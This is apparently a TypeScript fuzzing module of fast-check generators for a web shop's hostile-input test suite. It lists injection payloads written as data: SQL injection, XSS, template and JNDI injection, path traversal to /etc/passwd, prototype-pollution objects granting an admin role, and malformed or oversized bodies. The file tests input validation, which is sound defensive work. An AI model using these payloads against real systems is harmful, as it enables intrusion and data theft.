/*
 * What hostile clients send: the generators of the hostile-input suite (hostile-input.test.ts).
 * They build mostly invalid requests; which of them a route may still take is decided by
 * expectations.ts, never here.
 */
import fc from 'fast-check';

// ---------------------------------------------------------------------------------------------
// Bodies

/** Text that has broken shops before: injections, markup, traversal and unicode edge cases. */
export const nastyText = fc.constantFrom(
  "' OR '1'='1",
  "'; DROP TABLE parts; --",
  '" UNION SELECT password FROM accounts --',
  '1)) OR pg_sleep(5) --',
  '$1',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '${jndi:ldap://example.com/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  '%252e%252e%252f',
  '%',
  '%zz',
  '\u0000',
  'a\u0000b',
  '\u202eevil\u202c',
  'مرحبا بالعالم',
  '\u200b',
  '\u200d\u200c',
  '\ufeff',
  '\ud800',
  '\udfff',
  'a\ud800b',
  'Z̸̢͖̓a̵͈l̴g̸o̷',
  '🏎️💨',
  '\u0085\u2028\u2029',
  ' ',
  '\t\n\r',
  '',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  'true',
);

/** Longer than any field allows (the longest is an image address, 2,048); some exceed 64 KB. */
const hugeText = fc
  .integer({ min: 2_049, max: 70_000 })
  .chain((length) =>
    fc.constantFrom('A', ' ', 'é', '🏎', '\u0000', "'").map((c) => c.repeat(length)),
  );

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 4, arbitrary: nastyText },
  { weight: 1, arbitrary: hugeText },
);

/** Numbers, mostly ones no field takes: negative, fractional, huge; NaN and ±Infinity become null. */
export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.constantFrom(
    -1,
    0,
    -0,
    0.5,
    1.5,
    2.001,
    0.001,
    1e-7,
    2 ** 31,
    2 ** 53 + 2,
    -(2 ** 53),
    1e308,
    Number.MAX_VALUE,
    Number.MIN_VALUE,
    1_000_001,
    999_999.999,
  ),
);

/** Objects that try to reach a prototype once parsed. */
const pollution = fc.constantFrom<unknown>(
  JSON.parse('{"__proto__":{"role":"admin","isAdmin":true}}'),
  JSON.parse('{"constructor":{"prototype":{"role":"admin"}}}'),
  JSON.parse('{"prototype":{"polluted":true}}'),
);

/** Any JSON value a field should not accept. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 3, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
  { weight: 1, arbitrary: pollution },
);

/** Extra fields a form never sends, including the keys that reach for a prototype. */
const extraFields = fc.dictionary(
  fc.oneof(nastyText, fc.constantFrom('role', 'admin', 'id', '_id', 'userEmail', 'status')),
  anyValue,
  { maxKeys: 3 },
);

/**
 * Text one character past a length limit a form field has somewhere in the shop (a phone, a name,
 * a part's name, a profile field, an address, a description, an image address), or padded with
 * spaces to past it while the text itself is within it (trimmed, it is fine: the table says which).
 */
const pastALimit = fc
  .tuple(
    fc.constantFrom(40, 100, 120, 200, 254, 255, 500, 2000, 2048),
    fc.constantFrom('A', 'é', '🏎'),
    fc.boolean(),
  )
  .map(([limit, char, padded]) =>
    padded ? ` ${char.repeat(limit - 1)} ` : char.repeat(limit + 1),
  );

/**
 * Text a form field might hold; now and then with a NUL character, which PostgreSQL cannot store
 * in text, or just past a limit: a body carrying one is invalid input, however well-formed the rest.
 */
export const formText = (constraints: { minLength?: number; maxLength: number }) =>
  fc.oneof(
    { weight: 4, arbitrary: fc.string(constraints) },
    { weight: 1, arbitrary: fc.string(constraints).map((text) => `${text.slice(1)}\u0000`) },
    { weight: 1, arbitrary: pastALimit },
  );

/**
 * Bodies shaped like a form's: each field plausible or hostile, any of them missing, unknown
 * fields added; or a plausible form with exactly one field spoiled or left out, which probes each
 * field's own check; or a plausible form as it is. Plausible values may still be invalid.
 */
export function formLike(plausible: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  const loose = fc
    .tuple(
      fc.record(
        Object.fromEntries(
          Object.entries(plausible).map(([name, value]) => [
            name,
            fc.oneof({ weight: 1, arbitrary: value }, { weight: 2, arbitrary: anyValue }),
          ]),
        ),
        { requiredKeys: [] },
      ),
      extraFields,
    )
    .map(([form, extra]) => ({ ...extra, ...form }));
  const oneFieldOff = fc
    .tuple(
      fc.record(plausible),
      fc.constantFrom(...Object.keys(plausible)),
      fc.option(anyValue, { nil: undefined }),
    )
    .map(([form, spoiled, value]) =>
      value === undefined
        ? Object.fromEntries(Object.entries(form).filter(([name]) => name !== spoiled))
        : { ...form, [spoiled]: value },
    );
  return fc.oneof(
    { weight: 3, arbitrary: loose },
    { weight: 3, arbitrary: oneFieldOff },
    // Every field plausible: invalid only through what the plausible values may hold.
    { weight: 1, arbitrary: fc.record(plausible) },
    { weight: 1, arbitrary: anyValue },
  );
}

/** A request body as it goes over the wire. */
export interface Body {
  contentType: string | undefined;
  payload: string | Buffer;
}

const jsonText = (payload: string): Body => ({ contentType: 'application/json', payload });
/** JSON text of a value; `undefined` (a missing body) has none and is sent as nothing. */
export const jsonOf = (value: unknown): string =>
  value === undefined ? '' : JSON.stringify(value);
const asJson = (value: unknown): Body => jsonText(jsonOf(value));

/** Text sent as JSON that is not JSON, or JSON that no parser should let through. */
export const brokenJson = fc.constantFrom(
  '',
  ' ',
  '{',
  '}',
  '[1,2',
  '{"a":1,}',
  "{'a':1}",
  '{"a":}',
  '{"a":1}{"b":2}',
  '{"a":"\u0000"}',
  '{"a":"\\ud800"}',
  '{"rating":NaN}',
  '{"rating":Infinity}',
  '{"rating":-Infinity}',
  '{"rating":1e400}',
  '{"orderQuantity":-1e400}',
  '{"a":1,"a":2}',
  '\ufeff{}',
  '\u0000',
  'undefined',
  'NaN',
  'true',
  '0',
  '"text"',
  'null',
  '[]',
  '{"__proto__":{"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"a":{"__proto__":{"role":"admin"}}}',
);

/** Arrays or objects nested deeply, whole or inside a field; the deepest exceed 64 KB. */
export const deeplyNested = fc
  .tuple(fc.integer({ min: 100, max: 40_000 }), fc.boolean(), fc.constantFrom('', '"rating":'))
  .map(([depth, arrays, field]) => {
    const nest = arrays
      ? '['.repeat(depth) + ']'.repeat(depth)
      : '{"a":'.repeat(depth) + '{"__proto__":1}' + '}'.repeat(depth);
    return field ? `{${field}${nest}}` : nest;
  });

/** Bodies over 1 MB: past the JSON limit (64 KB) and past any limit the shop has. */
export const oversized = fc
  .integer({ min: 1_048_577, max: 1_100_000 })
  .map((length) => `{"description":"${'A'.repeat(length)}"}`);

/** Keys inserted into a JSON object's text, reaching for the prototype. */
const poisonKeys = fc.constantFrom(
  '"__proto__":{"role":"admin","isAdmin":true}',
  '"constructor":{"prototype":{"role":"admin"}}',
  '"__proto__":null',
);

function withKey(json: string, key: string): string {
  if (!json.startsWith('{') || json === '{}') return `{${key}}`;
  return `{${key},${json.slice(1)}`;
}

/**
 * Header values a real HTTP server lets through: the bytes of UTF-8 text, less the control bytes
 * Node's HTTP parser refuses (a NUL in a header never reaches the shop over a socket).
 */
const isRefusedControlByte = (byte: number) => (byte < 0x20 && byte !== 0x09) || byte === 0x7f;
export const overHttp = (text: string) =>
  Buffer.from(Buffer.from(text, 'utf8').filter((byte) => !isRefusedControlByte(byte))).toString(
    'latin1',
  );

/** Content types the JSON routes do not take, or take in a form they should not. */
export const wrongContentType = fc.oneof(
  fc.constantFrom(
    undefined,
    '',
    ';',
    'text/plain',
    'text/html',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/xml',
    'image/png',
    'application/octet-stream',
    'application/json; charset=utf-16',
    'application/json; charset=""',
    'application/jsonp',
    'application/vnd.api+json',
    'APPLICATION/JSON',
    'application/json, text/plain',
    '*/*',
  ),
  hostileText.filter((text) => text.length < 200).map(overHttp),
);

/** Every way of sending a hostile body to a JSON route, around bodies shaped by `shape`. */
export function hostileBodies(shape: fc.Arbitrary<unknown>): fc.Arbitrary<Body> {
  return fc.oneof(
    { weight: 12, arbitrary: shape.map(asJson) },
    { weight: 2, arbitrary: brokenJson.map(jsonText) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }).map(jsonText) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(shape, poisonKeys)
        .map(([value, key]) => jsonText(withKey(jsonOf(value), key))),
    },
    { weight: 1, arbitrary: deeplyNested.map(jsonText) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(shape, wrongContentType)
        .map(([value, contentType]) => ({ contentType, payload: jsonOf(value) })),
    },
    { weight: 1, arbitrary: oversized.map(jsonText) },
  );
}

/** Better Auth also reads forms: the same hostile fields, form-encoded. */
export function hostileAuthBodies(shape: fc.Arbitrary<unknown>): fc.Arbitrary<Body> {
  const asForm = (value: unknown): Body => {
    const form = new URLSearchParams();
    if (typeof value === 'object' && value !== null) {
      for (const [key, field] of Object.entries(value)) form.append(key, String(field));
    }
    return { contentType: 'application/x-www-form-urlencoded', payload: form.toString() };
  };
  return fc.oneof(
    { weight: 6, arbitrary: hostileBodies(shape) },
    { weight: 1, arbitrary: shape.map(asForm) },
  );
}

/** A body for the routes that take none: absent, or junk that must not change the answer. */
export const junkBody = fc.option(hostileBodies(anyValue), { nil: undefined, freq: 3 });

// ---------------------------------------------------------------------------------------------
// Ids and emails in paths

/** A path segment as sent, and the parameter the route sees (null: nothing a fixture is named by). */
export interface Segment {
  sent: string;
  seen: string | null;
}

const UNRESERVED = /[A-Za-z0-9\-._~]/;

/** Percent-encodes every byte of the UTF-8 text (lone surrogates become U+FFFD, as on the wire). */
export function encoded(text: string): Segment {
  const bytes = Buffer.from(text, 'utf8');
  const sent = [...bytes]
    .map((byte) => {
      const char = String.fromCharCode(byte);
      return UNRESERVED.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
  return { sent, seen: bytes.toString('utf8') };
}

/** Sent as typed: traversal, stray `%`, `?` and `#` included. Never built from a fixture's id. */
const raw = (text: string): Segment => ({ sent: text, seen: null });

/** Ids no part or order has: malformed, huge, SQL, unicode, traversal, random UUIDs. */
const strangeIds = fc.oneof(
  { weight: 3, arbitrary: nastyText },
  { weight: 2, arbitrary: fc.uuid() },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  // Beyond the 64 characters an id may have; past 100 Fastify refuses the path itself.
  { weight: 1, arbitrary: fc.integer({ min: 65, max: 5_000 }).map((n) => '9'.repeat(n)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '0',
      '-1',
      '1.5',
      '99999999999999999999',
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff',
      'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
      '{}',
      '[]',
    ),
  },
);

/** A fixture's id, spoiled: it must not be taken for the fixture. */
export const spoiledIds = (id: string) =>
  fc.constantFrom(
    `${id} `,
    ` ${id}`,
    `${id}\u0000`,
    `${id}\u200b`,
    `${id}' OR '1'='1`,
    `${id}/..`,
    `../${id}`,
    `${id}/../../allorders`,
    id.replaceAll('-', ''),
    `{${id}}`,
    id.slice(0, -1),
    `${id}0`,
    // Encoded once more: a route that decoded twice would find the fixture.
    encoded(id).sent.replace(/[0-9a-f]/, (c) => `%${c.charCodeAt(0).toString(16)}`),
  );

/** Path segments for an id route: strange ids in any form, spoiled fixture ids encoded. */
export const idSegments = (...fixtureIds: string[]) =>
  fc.oneof(
    { weight: 4, arbitrary: strangeIds.map(encoded) },
    { weight: 2, arbitrary: strangeIds.map(raw) },
    ...fixtureIds.map((id) => ({ weight: 1, arbitrary: spoiledIds(id).map(encoded) })),
  );

export const namesId = (segment: Segment, id: string) => segment.seen?.toLowerCase() === id;

/** Emails in paths: no account's, in any form; fixtures' emails spoiled, or spelled otherwise. */
export const emailSegments = (...fixtureEmails: string[]) => {
  const strange = fc.oneof(
    { weight: 3, arbitrary: nastyText },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.emailAddress() },
    {
      weight: 1,
      arbitrary: fc.integer({ min: 255, max: 3_000 }).map((n) => `${'a'.repeat(n)}@x.io`),
    },
  );
  const spoiled = (email: string) =>
    fc.constantFrom(
      `${email}\u0000`,
      `${email}\u200b`,
      `\u202e${email}`,
      `${email}' OR '1'='1`,
      `${email}/..`,
      `../${email}`,
      email.replace('@', '%40'),
      email.replace('@', '＠'),
      email.replace('a', 'а'), // a Cyrillic а
      `${email},${email}`,
      // Spelled otherwise but the same account: each route's precondition drops these wherever
      // naming that account would rightly succeed.
      ` ${email.toUpperCase()} `,
      `${email}\u00a0`,
    );
  return fc.oneof(
    { weight: 4, arbitrary: strange.map(encoded) },
    { weight: 2, arbitrary: strange.map(raw) },
    ...fixtureEmails.map((email) => ({ weight: 1, arbitrary: spoiled(email).map(encoded) })),
  );
};
